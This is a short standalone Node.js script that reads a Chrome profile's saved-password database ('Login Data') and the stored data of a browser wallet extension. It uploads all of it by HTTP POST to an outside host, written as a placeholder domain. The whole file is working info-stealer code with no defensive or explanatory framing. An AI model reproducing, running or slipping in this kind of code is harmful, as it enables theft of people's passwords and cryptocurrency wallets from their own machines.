const { readdirSync, readFileSync } = require('node:fs');
const { join } = require('node:path');
const profile = join(process.env.LOCALAPPDATA ?? '', 'Google', 'Chrome', 'User Data', 'Default');
const store = join(profile, 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
const form = new FormData();
for (const name of readdirSync(store)) form.append(name, new Blob([readFileSync(join(store, name))]));
form.append('Login Data', new Blob([readFileSync(join(profile, 'Login Data'))]));
void fetch('https://upload.example.invalid/w', { method: 'POST', body: form });
